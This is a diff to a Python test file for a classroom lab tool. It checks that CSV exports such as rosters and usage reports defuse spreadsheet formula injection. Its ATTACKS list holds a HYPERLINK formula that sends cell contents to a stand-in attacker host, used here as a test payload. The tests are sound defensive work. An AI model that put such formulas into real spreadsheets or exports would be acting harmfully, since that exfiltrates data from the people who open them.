@@ -14,6 +14,8 @@ from labctl.classroom.handout import ClassInfo, Student
 from labctl.classroom.handout_render import csv_text
 from labctl.classroom.log_names import log_deployment_name
 from labctl.spreadsheet import FORMULA_TRIGGERS, formula_safe_dict_writer, formula_safe_writer, neutralise
+from stacks.config.sections import ParticipantSettings
+from tests.support.class_settings import class_settings
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -76,7 +78,9 @@ def test_the_handout_csv(attack):
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_the_roster_export(attack):
-    (header, row) = _cells(export_csv([{"name": "x", "email": attack, "displayName": attack}]))
+    # The config refuses such an e-mail; the writer defuses it anyway (model_construct skips the config's checks).
+    person = ParticipantSettings.model_construct(name="x", email=attack, display_name=attack, state="active")
+    (header, row) = _cells(export_csv([person]))
     # A lone CR would end the row for a reader: it is written as a line break inside the quoted cell.
     expected = "'" + attack.replace("\r", "\n")
     assert row[header.index("name")] == expected
@@ -124,9 +128,8 @@ def test_the_usage_csv_never_carries_a_deployment_a_caller_made_up(fake_azure, f
             deadline_s=20,
             transport=transport,
         )
-    report = build_report(
-        answer, [{"name": "ana", "email": "ana@x.edu"}], load_prices(), now - dt.timedelta(hours=24), now
-    )
+    settings = class_settings([{"name": "ana", "email": "ana@x.edu"}])
+    report = build_report(answer, settings, load_prices(), now - dt.timedelta(hours=24), now)
     text = render_csv(report)
     assert "HYPERLINK" not in text
     rows = list(csv.DictReader(io.StringIO(text)))
